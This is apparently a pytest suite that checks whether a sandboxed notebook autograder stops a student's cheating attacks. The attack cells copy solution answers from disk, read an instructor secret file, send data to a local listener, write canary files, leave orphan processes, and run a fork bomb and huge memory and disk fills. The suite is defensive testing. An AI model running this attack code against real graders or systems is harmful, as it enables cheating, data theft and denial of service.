"""A dishonest student's attacks on the grader, each graded through the real command.

Every attack runs in one sandboxed grading run (``python -m course_utils.grade``, real nbgrader,
two workers), next to two honest submissions that must keep full marks. The attacks that read,
write or connect are also graded once with ``--no-sandbox``, where they must succeed: that shows
the attack code works, so that the sandbox is what stops it.
"""
import contextlib
import csv
import io
import os
import re
import secrets
import socket
import threading
import time
from pathlib import Path

import nbformat
import pytest

from course_utils.instructor import grade, sandbox
from conftest import ROOT
from submissions import cell, colab, load, student

pytestmark = pytest.mark.slow

A = "01_attention"
FULL = sum(grade.tests_of(load("notebooks", A)).values())
ANSWERS = [c.metadata["nbgrader"]["grade_id"] for c in load("solutions", A).cells
           if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution")]
TOKEN = secrets.token_hex(8)

STEAL = """
import json, pathlib
def steal(grade_id, paths={paths!r}):
    for pattern in paths:
        for path in sorted(pathlib.Path("/").glob(pattern.lstrip("/"))):
            try:
                nb = json.loads(path.read_text())
            except (OSError, ValueError):
                continue
            for c in nb["cells"]:
                source = "".join(c["source"])
                if c.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id") == grade_id \\
                        and "NotImplementedError" not in source:
                    exec(source, globals())
                    return
steal({first!r})
"""


def thief(paths):
    """The release whose answer cells only copy the answers from ``paths`` (glob patterns)."""
    nb = load("notebooks", A)
    for i, gid in enumerate(ANSWERS):
        cell(nb, gid).source = STEAL.format(paths=paths, first=gid) if i == 0 else f"steal({gid!r})"
    return nb


def side_effects(port):
    """Honest answers, plus a first answer cell that tries to reach out of the sandbox."""
    return student(A, append={ANSWERS[0]: f"""
import os, pathlib, socket, subprocess, sys
for action in (
    lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen"),
    lambda: pathlib.Path({str(Path.home())!r}, "course-canary-{TOKEN}").write_text("written"),
    lambda: pathlib.Path({str(ROOT)!r}, "course-canary-{TOKEN}").write_text("written"),
    lambda: pathlib.Path({str(CANARIES[2])!r}).write_text("written"),   # inside course_utils
    lambda: pathlib.Path({str(CANARIES[3])!r}).write_text("written"),   # inside site-packages
    lambda: print("uid", os.getuid(), os.geteuid()),
    lambda: print(pathlib.Path({str(Path.home())!r}, ".course-secret-{TOKEN}").read_text()),
    lambda: subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "orphan-{TOKEN}"],
                             start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL),
):
    try:
        action()
    except Exception:
        pass
"""})


FORK_BOMB = "import os\nwhile True:\n    os.fork()"
HUGE_ALLOCATION = "import torch\nx = torch.ones(30 * 2**30 // 4)  # 30 GB"
HUGE_FILE = "with open('big.bin', 'wb') as f:\n    for _ in range(10 * 1024):\n        f.write(bytes(2**20))  # 10 GB"


@pytest.fixture(scope="module")
def listener():
    """A TCP listener on 127.0.0.1 that records what connects to it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    received, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            with contextlib.suppress(OSError):
                conn, _ = server.accept()
                received.append(conn.recv(100))
                conn.close()

    threading.Thread(target=serve, daemon=True).start()
    yield server.getsockname()[1], received
    stop.set()
    server.close()


@pytest.fixture(scope="module")
def secret_file():
    path = Path.home() / f".course-secret-{TOKEN}"
    path.write_text(f"the instructor's secret {TOKEN}")
    yield path
    path.unlink()
    for canary in CANARIES:
        canary.unlink(missing_ok=True)


CANARIES = (Path.home() / f"course-canary-{TOKEN}", ROOT / f"course-canary-{TOKEN}",
            ROOT / "course_utils" / f"canary_{TOKEN}.py", Path(pytest.__file__).parent.parent / f"canary_{TOKEN}.py")


def _escaped():
    """What got out of a grading run, looked at right after it."""
    return {"canaries": [str(p) for p in CANARIES if p.exists()], "orphans": _orphans()}


def _orphans():
    found = []
    for entry in Path("/proc").iterdir():
        with contextlib.suppress(OSError):
            if entry.name.isdigit() and f"orphan-{TOKEN}".encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
    return found


def _grade(tmp_path_factory, submissions, *options):
    downloads, out = tmp_path_factory.mktemp("downloads"), tmp_path_factory.mktemp("run") / "grades"
    for name, nb in submissions.items():
        nbformat.write(nb(out) if callable(nb) else nb, downloads / f"{name}.ipynb")
    console = io.StringIO()
    start = time.monotonic()
    with contextlib.redirect_stdout(console), contextlib.redirect_stderr(console):
        code = grade.main([A, str(downloads), "--out", str(out), "--workers", "2", "--cell-timeout", "30",
                           "--notebook-timeout", "300", *options])
    with open(out / "scores.csv") as f:
        rows = {row["student"]: row for row in csv.DictReader(f)}
    return rows, out, code, console.getvalue(), time.monotonic() - start


def _attacks(port):
    return {
        "reads_solutions": lambda out: thief([f"{ROOT}/solutions/{A}/{A}.ipynb"]),
        "reads_grader_source": lambda out: thief([f"{out}/work/source/{A}/{A}.ipynb"]),
        "copies_honest": lambda out: thief([f"{out}/work/worker*/submitted/honest/{A}/{A}.ipynb",
                                            f"{out}/received/honest.ipynb"]),
        "side_effects": side_effects(port),
    }


@pytest.fixture(scope="module")
def sandboxed(tmp_path_factory, listener, secret_file):
    port, _ = listener
    submissions = {"honest": student(A), "honest_colab": colab(student(A)), **_attacks(port),
                   "fork_bomb": student(A, append={ANSWERS[1]: FORK_BOMB}),
                   "huge_allocation": student(A, append={ANSWERS[1]: HUGE_ALLOCATION}),
                   "huge_file": student(A, append={ANSWERS[1]: HUGE_FILE})}
    result = _grade(tmp_path_factory, submissions, "--disk", "256M")
    time.sleep(1)  # let any escaped process show up
    return result, _escaped()


@pytest.fixture(scope="module")
def unsandboxed(tmp_path_factory, listener, secret_file):
    """The same attacks without the sandbox: each must work, or the tests above prove nothing."""
    port, received = listener
    before = len(received)
    result = _grade(tmp_path_factory, {"honest": student(A), **_attacks(port)}, "--no-sandbox")
    time.sleep(1)
    escaped = _escaped()
    for pid in escaped["orphans"]:
        with contextlib.suppress(OSError):
            os.kill(pid, 9)
    for canary in CANARIES:
        canary.unlink(missing_ok=True)
    yield result, received[before:], escaped


def _all_output(out):
    return "\n".join(p.read_text(errors="replace") for p in out.rglob("*")
                     if p.is_file() and p.suffix in (".ipynb", ".csv", ".md", ".html", ".log", ".txt"))


def test_honest_submissions_keep_full_marks(sandboxed):
    (rows, _, _, console, _), _ = sandboxed
    for name in ("honest", "honest_colab"):
        assert rows[name]["status"] == "graded" and float(rows[name]["score"]) == FULL, rows[name]
    assert "each kernel in its own sandbox" in console


@pytest.mark.parametrize("attack", ["reads_solutions", "reads_grader_source", "copies_honest"])
def test_reading_answers_from_disk_gains_nothing(sandboxed, unsandboxed, attack):
    (rows, _, _, _, _), _ = sandboxed
    assert rows[attack]["status"] == "graded" and float(rows[attack]["score"]) == 0, rows[attack]
    (plain, _, _, _, _), _, _ = unsandboxed
    assert float(plain[attack]["score"]) == FULL, f"the attack itself does not work: {plain[attack]}"


def test_no_network(sandboxed, unsandboxed, listener):
    _, received = listener
    _, during_control, _ = unsandboxed
    assert during_control == [b"stolen"], "without the sandbox the submission must reach the listener"
    assert received == during_control, f"something reached the listener from the sandbox: {received}"


def test_nothing_written_and_no_secret_read(sandboxed, unsandboxed):
    (rows, out, _, _, _), escaped = sandboxed
    assert float(rows["side_effects"]["score"]) == FULL
    assert escaped["canaries"] == []
    assert f"secret {TOKEN}" not in _all_output(out)
    (_, plain_out, _, _, _), _, control = unsandboxed
    assert len(control["canaries"]) == len(CANARIES), "without the sandbox the canaries must be written"
    assert f"secret {TOKEN}" in _all_output(plain_out), "without the sandbox the secret must be readable"


def test_the_kernel_is_not_root(sandboxed):
    (_, out, _, _, _), _ = sandboxed
    nb = nbformat.read(out / "autograded" / "side_effects.ipynb", as_version=4)
    printed = "".join(o.get("text", "") for c in nb.cells if c.cell_type == "code" for o in c.outputs)
    uid, euid = map(int, re.search(r"uid (\d+) (\d+)", printed).groups())
    assert uid == euid
    assert uid != 0 if os.geteuid() == 0 else uid == os.getuid()


def test_no_process_outlives_its_notebook(sandboxed, unsandboxed):
    _, escaped = sandboxed
    assert escaped["orphans"] == []
    _, _, control = unsandboxed
    assert control["orphans"], "without the sandbox the orphan must survive (the attack works)"


@pytest.mark.parametrize("attack, reason", [("fork_bomb", "processes and threads"),
                                            ("huge_allocation", "memory"),
                                            ("huge_file", "scratch space")])
def test_resource_attacks_fail_with_their_reason(sandboxed, attack, reason):
    (rows, _, code, console, _), _ = sandboxed
    row = rows[attack]
    assert row["status"].startswith("FAILED:") and reason in row["status"], row["status"]
    assert float(row["score"]) == 0
    assert code == 1 and f"FAILED {attack}:" in console


def test_the_run_finishes_in_bounded_time(sandboxed):
    (*_, elapsed), _ = sandboxed
    assert elapsed < 600, f"grading took {elapsed:.0f} s: something hangs"


def test_no_sandbox_is_said_everywhere(unsandboxed):
    (rows, out, _, console, _), _, _ = unsandboxed
    assert "WARNING: graded WITHOUT the sandbox" in console
    assert "graded without the sandbox" in (out / "report.md").read_text()
    assert all("WITHOUT the sandbox" in row["notes"] for row in rows.values())


def test_missing_bubblewrap_stops_grading_with_what_to_install(tmp_path, monkeypatch):
    nbformat.write(student(A), tmp_path / "alice.ipynb")
    monkeypatch.setenv("PATH", str(tmp_path))  # no bwrap on it
    with pytest.raises(SystemExit, match="apt-get install bubblewrap"):
        grade.main([A, str(tmp_path), "--out", str(tmp_path / "out")])
    assert not (tmp_path / "out").exists()


def test_plain_nbgrader_autograde_is_sandboxed(tmp_path):
    """`nbgrader autograde` with the repository's nbgrader_config.py, no course_utils.grade."""
    (tmp_path / "nbgrader_config.py").write_text(
        f"c = get_config()\nload_subconfig({str(ROOT / 'nbgrader_config.py')!r})\n"
        f"c.CourseDirectory.root = {str(tmp_path)!r}\n"
        f"c.CourseDirectory.source_directory = {str(ROOT / 'solutions')!r}\n")
    for name, nb in {"honest": student(A), "thief": thief([f"{ROOT}/solutions/{A}/{A}.ipynb"])}.items():
        (tmp_path / "submitted" / name / A).mkdir(parents=True)
        nbformat.write(nb, tmp_path / "submitted" / name / A / f"{A}.ipynb")
    for args in (["generate_assignment", A, "--force"], ["autograde", A, "--force"], ["export"]):
        grade._nbgrader([*args, "--log-level=WARN"], tmp_path, tmp_path / "log.txt")
    with open(tmp_path / "grades.csv") as f:
        scores = {row["student_id"]: float(row["raw_score"]) for row in csv.DictReader(f)}
    assert scores["honest"] == FULL and scores["thief"] == 0, (scores, (tmp_path / "log.txt").read_text()[-2000:])


def test_sizes_are_read_as_an_instructor_writes_them():
    assert sandbox.parse_size("4G") == 4 << 30 and sandbox.parse_size("512M") == 512 << 20
    assert sandbox.parse_size("1.5GiB") == 3 << 29 and sandbox.parse_size("100") == 100
    with pytest.raises(ValueError, match="4G"):
        sandbox.parse_size("lots")


def test_watchdog_stops_a_kernel_whose_processes_together_use_too_much_memory():
    """Each process stays under the per-process limit; together they do not."""
    import asyncio

    code = ("import os, time\n"
            "for _ in range(4):\n"
            "    if os.fork() == 0:\n"
            "        block = b'x' * (400 * 2**20)  # written, so resident\n"
            "        time.sleep(120)\n"
            "time.sleep(120)\n")

    async def run():
        km = sandbox.SandboxedKernelManager(memory_limit="1G")
        await km.start_kernel()
        kc = km.client()
        kc.start_channels()
        try:
            await kc.wait_for_ready(timeout=60)
            kc.execute(code)
            for _ in range(300):
                if not await km.is_alive():
                    break
                await asyncio.sleep(0.1)
            return await km.is_alive(), km.stopped_because
        finally:
            kc.stop_channels()
            await km.shutdown_kernel(now=True)

    alive, reason = asyncio.run(run())
    assert not alive and reason and "more than 1 GiB of memory" in reason, reason


def test_the_kernel_is_shown_the_course_data():
    from course_utils import data

    shown = sandbox._visible()
    assert any(data.BUNDLED == p or p in data.BUNDLED.parents for p in shown), shown
